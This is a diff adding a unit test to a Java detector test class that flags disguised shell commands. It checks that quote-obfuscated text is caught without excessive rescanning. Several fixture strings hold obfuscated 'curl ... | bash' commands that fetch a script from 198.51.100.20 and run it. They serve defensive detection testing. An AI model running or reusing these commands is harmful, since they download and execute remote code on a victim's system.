@@ -84,4 +84,15 @@ class DisguisedCommandTest {
     fixture.body(fixture.inbound("h.example"), "cu\\\nrl -s http://198.51.100.20/g | b'a'sh\n");
     assertEquals(List.of("pipe_to_shell"), fixture.patterns());
   }
+
+  /** Most text has quotes: it is not read a second time for theirs, only for what hides a word. */
+  @Test
+  void quotesThatHideNothingDoNotKeepAViewOpen() {
+    String disguised = "\"run\": \"c''url -s http://198.51.100.20/g | b''ash\",";
+    byte[] text = Encoders.bytes(disguised + "\"key\": \"some words\", ".repeat(1000));
+    DetectorFixture fixture = new DetectorFixture();
+    int work = fixture.inbound("h.example").body(text, 0, text.length);
+    assertEquals(List.of("pipe_to_shell"), fixture.patterns());
+    assertTrue(work < text.length * 5 / 4, work + " looked at for " + text.length);
+  }
 }
